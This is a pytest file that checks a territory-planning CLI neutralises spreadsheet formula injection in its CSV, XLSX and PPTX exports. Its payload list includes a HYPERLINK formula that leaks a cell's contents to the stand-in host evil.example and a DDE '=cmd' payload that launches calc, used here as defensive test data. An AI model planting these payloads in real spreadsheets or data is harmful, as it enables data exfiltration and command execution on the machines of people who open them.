"""Formula payloads (issue 14) in every table we write: each CSV command, the import report, the PPTX
chart workbook and XLSX. A spreadsheet must find no cell it evaluates; with --raw-csv the cells come out
exactly as they are; numbers stay numbers.

Run through the real CLI on the small grid project whose names, ids, rule names and lead cells hold
OWASP's examples and the issue's findings.
"""
from __future__ import annotations

import csv
import io
import json
import re
import shutil
import zipfile

import pytest
from openpyxl import load_workbook

from territory_desk.domain.leads.rules import SETTINGS_KEY
from territory_desk.io.tables.safe_csv import FORMULA_START
from territory_desk.persistence.store import save_project

from tests.cli_runner import run
from tests.conftest import make_grid_project

PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&A1,"x")', "=cmd|' /C calc'!A0", "+1", "-1+2", "@SUM(A1)",
            "\t=1", "\r=1"]
_NUMBER = re.compile(r"-?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][-+]?[0-9]+)?")


def evaluated_cells(rows) -> list[str]:
    """Cells a spreadsheet would run as a formula: beginning with = + - @ TAB CR, unless a plain number."""
    return [c for r in rows for c in r if c.startswith(FORMULA_START) and not _NUMBER.fullmatch(c)]


def read_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _text(path) -> str:
    with open(path, newline="", encoding="utf-8") as f:  # CRs inside cells kept as they are
        return f.read()


def cells(rows) -> set[str]:
    return {c for r in rows for c in r}


@pytest.fixture(scope="module")
def project(tmp_path_factory):
    """Territory, region, rep, unit, account names and unit ids, a rule name: all formula payloads."""
    tmp = tmp_path_factory.mktemp("formulas")
    p = make_grid_project()
    sc = p.scenario
    for k, t in enumerate(sc.territories):
        t.name = PAYLOADS[k]  # =HYPERLINK, =cmd, +1
    sc.regions[0].name = PAYLOADS[3]  # -1+2
    for k, r in enumerate(p.reps):
        r.name = PAYLOADS[4 + k]  # @SUM, \t=1, \r=1
    for u in range(len(p.units)):
        p.units.names[u] = PAYLOADS[u % len(PAYLOADS)]
    p.units.ids[0], p.units.ids[1] = "=U0", "-U1"
    p.units._index = None
    for i in range(len(p.accounts)):
        p.accounts.names[i] = PAYLOADS[i % len(PAYLOADS)]
    p.settings[SETTINGS_KEY] = [{"name": "=RULE()", "type": "unit", "column": "unit"}]
    path = tmp / "formulas.gpkg"
    save_project(p, str(path))
    return path


def _both(capsys, *args, out=None):
    """(safe rows, raw rows) of one command: its file ``out`` or its standard output."""
    result = []
    for extra in ([], ["--raw-csv"]):
        code, stdout, err = run(capsys, *args, *extra)
        assert code == 0, err
        result.append(read_rows(_text(out) if out else stdout))
    return result


def _check(safe, raw, expected) -> None:
    assert evaluated_cells(safe) == [], evaluated_cells(safe)[:5]
    assert {"'" + e for e in expected} <= cells(safe)  # shown as text, with the apostrophe
    assert set(expected) <= cells(raw) and evaluated_cells(raw)  # --raw-csv: exactly as they are


def test_export_csv_tables(project, tmp_path, capsys):
    out = tmp_path / "t.csv"
    for table, expected in (("alignment", PAYLOADS + ["=U0", "-U1"]), ("accounts", PAYLOADS),
                            ("summary", PAYLOADS)):
        safe, raw = _both(capsys, "export", project, "-o", out, "--table", table, out=out)
        _check(safe, raw, expected)
    summary = safe
    assert any(_NUMBER.fullmatch(c) and c.startswith("-") for r in summary[1:] for c in r)  # deviations stay numbers


def test_stats_csv_per_territory_and_per_level(project, capsys):
    _check(*_both(capsys, "stats", project, "--format", "csv"), PAYLOADS)
    safe, raw = _both(capsys, "stats", project, "--format", "csv", "--level", "region")
    _check(safe, raw, [PAYLOADS[3]])


def test_optimize_moves_and_compare(project, tmp_path, capsys):
    project = shutil.copy(project, tmp_path / "p.gpkg")  # optimize adds scenarios: leave the shared one alone
    moves = tmp_path / "moves.csv"
    code, _, err = run(capsys, "optimize", project, "--territories", "3", "--balance", "population:0.02",
                       "--scenario", "=Plan", "--seed", "3", "--time-limit", "5", "--moves-csv", moves)
    assert code == 0, err
    rows = read_rows(_text(moves))
    assert evaluated_cells(rows) == []
    code, _, err = run(capsys, "optimize", project, "--territories", "3", "--balance", "population:0.05",
                       "--scenario", "=Plan2", "--seed", "4", "--time-limit", "5", "--moves-csv", moves, "--raw-csv")
    assert code == 0, err
    out = tmp_path / "cmp.csv"
    base = "Base"
    safe, raw = _both(capsys, "compare", project, base, "=Plan", "--format", "csv", "-o", out, out=out)
    _check(safe, raw, PAYLOADS[:3])
    for kind in ("units", "accounts"):
        safe, raw = _both(capsys, "compare", project, base, "=Plan", "--list", kind, "--format", "csv", "-o", out,
                          out=out)
        assert len(safe) > 1 and evaluated_cells(safe) == [] and evaluated_cells(raw)  # unit/account names
    code, text, _ = run(capsys, "compare", project, base, "=Plan", "--list", "accounts")  # the tab-separated listing
    assert evaluated_cells([line.split("\t") for line in text.splitlines()[1:]]) == []


def test_assign_output_keeps_every_input_cell_inert(project, tmp_path, capsys):
    leads = tmp_path / "leads.csv"
    with open(leads, "w", newline="", encoding="utf-8") as f:
        w = csv.writer(f)
        w.writerow(["Lead", "unit", "=Note", "Longitude", "Amount"])
        for k, payload in enumerate(PAYLOADS):
            w.writerow([payload, f"U000{k + 2}", payload, f"-71.{k}5", f"{-k}.5"])
    out = tmp_path / "assigned.csv"
    safe, raw = _both(capsys, "assign", project, leads, "-o", out, out=out)
    _check(safe, raw, PAYLOADS + ["=Note", "=RULE()"])
    assert [r[3] for r in safe[1:]] == [f"-71.{k}5" for k in range(len(PAYLOADS))]  # coordinates stay numbers
    assert [r[4] for r in safe[1:]] == [f"{-k}.5" for k in range(len(PAYLOADS))]
    assert safe[0][:3] == ["Lead", "unit", "'=Note"] and len(safe) == 1 + len(PAYLOADS)


def test_kpis_review_and_match_reps(project, tmp_path, capsys):
    out = tmp_path / "k.csv"
    _check(*_both(capsys, "kpis", project, "--format", "csv", "-o", out, out=out), PAYLOADS[:3])
    assert run(capsys, "snapshot", project, "--period", "2026Q2")[0] == 0
    safe, raw = _both(capsys, "review", project, "--from", "2026Q2", "--to", "2026Q3", "--source", "auto",
                      "--format", "csv", "-o", out, out=out)
    _check(safe, raw, PAYLOADS[:3])
    _check(*_both(capsys, "match-reps", project, "--format", "csv"), PAYLOADS[:3] + PAYLOADS[4:])  # territories, reps


def test_import_report(project, tmp_path, capsys):
    crm = tmp_path / "acc.csv"
    with open(crm, "w", newline="", encoding="utf-8") as f:
        w = csv.writer(f)
        w.writerow(["Account ID", "Account Name", "Latitude", "Longitude"])
        for k, payload in enumerate(PAYLOADS):
            w.writerow([payload, f"n{k}", 38.2 + k / 10, -99.8 + k / 10])
        w.writerow(["@far", "far", 10, 10])  # outside every unit: a rejected row with its id
    report = tmp_path / "report.csv"
    safe, raw = _both(capsys, "import-accounts", project, crm, "--report", report, "--dry-run", out=report)
    _check(safe, raw, PAYLOADS[:5] + ["=1", "@far"])  # ids are read trimmed: "\t=1" and "\r=1" are "=1"


def test_pptx_chart_workbook_and_xlsx_hold_values_never_formulas(project, tmp_path, capsys, qapp):
    deck = tmp_path / "deck.pptx"
    code, _, err = run(capsys, "export", project, "-o", deck, "--dpi", "72")
    assert code == 0, err
    with zipfile.ZipFile(deck) as z:
        books = [n for n in z.namelist() if n.startswith("ppt/embeddings/") and n.endswith(".xlsx")]
        assert books
        for name in books:
            with zipfile.ZipFile(io.BytesIO(z.read(name))) as book:
                xml = "".join(book.read(n).decode("utf-8") for n in book.namelist() if n.endswith(".xml"))
            assert "<f>" not in xml and "<f " not in xml  # no formula, whatever the names
            wb = load_workbook(io.BytesIO(z.read(name)))
            column_a = [c.value for c in wb.active["A"][1:]]
            assert column_a == PAYLOADS[:3]  # the territory names, as text
    xlsx = tmp_path / "t.xlsx"
    code, _, err = run(capsys, "export", project, "-o", xlsx, "--table", "all")
    assert code == 0, err
    with zipfile.ZipFile(xlsx) as z:
        assert not any(re.search(r"<f[ >]", z.read(n).decode("utf-8")) for n in z.namelist() if "worksheets" in n)
    wb = load_workbook(xlsx)
    names = {r[1] for r in wb["summary"].iter_rows(min_row=2, values_only=True)}
    assert names == set(PAYLOADS[:3])


def test_stats_json_is_not_touched(project, capsys):
    """Only CSV cells get the apostrophe: JSON and the projects hold the names as they are."""
    code, out, _ = run(capsys, "stats", project, "--format", "json")
    assert code == 0 and [t["name"] for t in json.loads(out)["territories"]] == PAYLOADS[:3]
